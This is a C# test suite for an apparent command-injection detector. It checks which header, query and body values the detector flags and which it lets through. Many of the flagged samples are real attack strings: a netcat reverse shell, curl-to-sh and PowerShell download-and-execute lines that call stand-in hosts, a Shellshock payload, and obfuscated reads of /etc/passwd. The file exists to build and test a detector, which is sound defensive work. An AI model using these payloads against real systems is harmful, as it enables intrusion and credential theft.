using System.Text;
using CsCheck;
using FunctionShield.Decoding;
using FunctionShield.Detection;
using FunctionShield.Events;
using FunctionShield.Findings;

namespace FunctionShield.Tests.Detection;

public class CommandInjectionTests
{
    [Theory]
    [InlineData("Mozilla/5.0; cat /etc/hosts", nameof(FieldKind.UserAgent))]
    [InlineData("Mozilla && curl http://a.example/p.sh", nameof(FieldKind.UserAgent))]
    [InlineData("https://shop.example/x; cat /etc/hosts", nameof(FieldKind.Referer))]
    [InlineData("eu-west-1; cat /etc/hosts", nameof(FieldKind.Metadata))]
    public void A_program_with_a_place_is_told_wherever_it_stands(string value, string kind) => Assert.Equal(Confidence.Medium, Ask(value, Enum.Parse<FieldKind>(kind)));

    [Theory]
    [InlineData("Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0", nameof(FieldKind.UserAgent))]
    [InlineData("Mozilla/5.0 (compatible; bot/2.1; +http://bot.example/about)", nameof(FieldKind.UserAgent))]
    [InlineData("curl/8.5.0; http://a.example/", nameof(FieldKind.UserAgent))]
    [InlineData("https://shop.example/x;sort=cat?path=/etc", nameof(FieldKind.Referer))]
    [InlineData("text/html; charset=utf-8", nameof(FieldKind.Metadata))]
    public void What_browsers_and_AWS_write_is_no_command(string value, string kind) => Assert.Null(Ask(value, Enum.Parse<FieldKind>(kind)));

    [Theory]
    [InlineData("8.8.8.8; cat /etc/hosts")]
    [InlineData("x | nc 10.0.0.1 99 -e /bin/sh")]
    [InlineData("report.pdf&& curl http://a.example/x")]
    [InlineData("$(curl a.example|sh).csv")]
    [InlineData("`uname`")]
    [InlineData("x\nwget http://a.example")]
    [InlineData("a;c'a't${IFS}/etc/hosts")]
    [InlineData("a;w\\ho\\ami")]
    [InlineData("a;/???/c?t /etc/hosts")]
    [InlineData("a;{cat,/etc/hosts}")]
    [InlineData("& powershell -enc AAAA")]
    [InlineData("; IEX (New-Object Net.WebClient).DownloadString('http://a.example')")]
    [InlineData("() { :;}; /bin/sh -c id")]
    [InlineData("<!--#exec cmd=\"id\"-->")]
    [InlineData("system('id');")]
    public void A_command_that_parses_on_is_sure(string value) => Assert.Equal(Confidence.High, Ask(value, FieldKind.Query));

    [Theory]
    [InlineData("R&D; more of it")]
    [InlineData("fish & chips | $5.00")]
    [InlineData("Mozilla/5.0 (X11; Linux x86_64; rv:24.0) Gecko/20100101")]
    [InlineData("text/html;q=0.9, sort;q=1")]
    [InlineData("a=b; c=d; id=7")]
    [InlineData("https://a.example/?x=1&id=5&sort=asc")]
    [InlineData("https://a.example/sync?id=${USER_ID}")]
    [InlineData("name|date|type")]
    [InlineData("| id | name | type |\n|----|------|------|")]
    [InlineData("Use `ls -l` to list files; then `cat` them")]
    [InlineData("var a = b; return a && find(x);")]
    [InlineData("p{color:red;cursor:wait}")]
    [InlineData("O'Neil; Tom & Jerry's cat")]
    [InlineData("top 10 cats; less is more")]
    [InlineData("find me at home")]
    [InlineData("&lt;b&gt;sort&copy;")]
    public void Text_that_no_shell_would_run_is_nothing(string value) => Assert.Null(Ask(value, FieldKind.Body));

    [Fact]
    public void A_drive_that_ends_the_text_is_survived() =>
        Assert.NotNull(Shield.Create().InspectValue("body.name", "+dir+c:"u8));

    [Fact]
    public void A_value_that_is_a_command_line_is_logged()
    {
        Assert.NotNull(Ask("netstat", FieldKind.Query));
        Assert.NotNull(Ask("which wget", FieldKind.Query));
        Assert.Null(Ask("which car", FieldKind.Query));
    }

    [Fact]
    public void Any_text_is_survived() =>
        Gen.OneOf(
            Gen.Byte.Array[0, 60],
            Gen.Char["'\"`$(){}|&;\\\n+ lscat/=%^"].Array[0, 60].Select(chars => Encoding.UTF8.GetBytes(chars))).Sample(text => { Ask(text, FieldKind.Query); });

    [Fact]
    public void Long_runs_are_survived()
    {
        foreach (string run in new[] { "; ls", "|", "&a", "$(", "`", "'", "\\n", "() {" })
            Ask(string.Concat(Enumerable.Repeat(run, 100_000)), FieldKind.Query);
    }

    [Fact]
    public void Nothing_found_allocates_nothing()
    {
        byte[] text = Encoding.UTF8.GetBytes("a=b; c=d | e && f `g` $(h) 'i' \"j\"");
        Ask(text, FieldKind.Query);
        long before = GC.GetAllocatedBytesForCurrentThread();
        for (int i = 0; i < 100; i++)
            Ask(text, FieldKind.Query);
        Assert.Equal(0, GC.GetAllocatedBytesForCurrentThread() - before);
    }

    private static Confidence? Ask(string value, FieldKind kind) => Ask(Encoding.UTF8.GetBytes(value), kind);

    private static Confidence? Ask(byte[] text, FieldKind kind)
    {
        var slots = new FindingSlots();
        var findings = new FindingBuffer(slots);
        CommandInjection.Detect(new FieldView(text, "host"u8, kind, DecodeLayers.None, FirstLook.At(text)), ref findings);
        foreach (ref readonly Finding finding in findings.Findings)
            Assert.InRange(finding.Start + finding.Length, 0, text.Length);
        return findings.Count == 0 ? null : findings.Findings[0].Confidence;
    }

    [Theory]
    [InlineData("PHP <8.1")]
    [InlineData("PHP 8.1")]
    [InlineData("node >=18.2")]
    [InlineData("id\nname\ncreated")]
    public void A_version_or_a_list_is_no_command_line(string text) => Assert.Empty(Shield.Create().InspectValue("body.q", System.Text.Encoding.UTF8.GetBytes(text)));

    [Theory]
    [InlineData("php <payload.php")]
    [InlineData("ping 10.0.0.7; id")]
    [InlineData("x\nid")]
    public void A_file_an_address_or_a_last_line_makes_one(string text) => Assert.NotEmpty(Shield.Create().InspectValue("body.q", System.Text.Encoding.UTF8.GetBytes(text)));

    [Theory]
    [InlineData("#!/bin/sh\nset -eu\necho \"x\"", null)]
    [InlineData("```\nls -la | grep x\n```", null)]
    [InlineData("x\nls -la | grep x", Confidence.High)]
    public void A_listing_is_a_documents_subject(string value, Confidence? expected) => Assert.Equal(expected, Detected.By(CommandInjection.Detect, value));

    [Theory]
    [InlineData(";$'\\143\\141\\164' /etc/passwd")]
    [InlineData("<(cat /etc/passwd)")]
    [InlineData(";a=cat;$a /etc/passwd")]
    [InlineData("| wh`oam`i")]
    public void A_name_that_a_shell_puts_together_is_still_its_name(string value) => Assert.NotNull(Detected.By(CommandInjection.Detect, value));

    [Theory]
    [InlineData(";$'\\150\\145\\171' there")]
    [InlineData("<(o_o)>")]
    [InlineData(";a=5;b=$a")]
    [InlineData("a | wh`ate`ver")]
    [InlineData("x=5; it costs $5")]
    public void Marks_of_a_shell_around_other_words_are_nothing(string value) => Assert.Null(Detected.By(CommandInjection.Detect, value));
}
